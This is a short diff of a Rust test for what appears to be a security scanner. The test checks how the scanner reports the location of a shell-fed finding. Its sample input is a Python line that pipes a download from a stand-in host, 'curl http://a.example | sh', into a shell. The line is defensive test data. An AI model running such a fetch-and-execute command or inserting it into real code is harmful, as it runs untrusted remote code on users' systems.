@@ -126,7 +126,7 @@ fn no_letter_of_an_excerpt_moves_or_hides_another() {
 fn code_within_says_where_it_stands() {
     let scanned = scan(Language::Python, b"import os\n\nos.system('curl http://a.example | sh')\n");
     let inner = scanned.findings.iter().find(|finding| finding.rule == "dynamic.shell-fed");
-    assert_eq!(inner.map(|finding| finding.at.name.as_str()), Some("hostile > shell at 3:1"));
+    assert_eq!(inner.map(|finding| finding.at.shown()), Some("hostile:3:1 (in its shell)".to_owned()));
 }
 
 #[test]
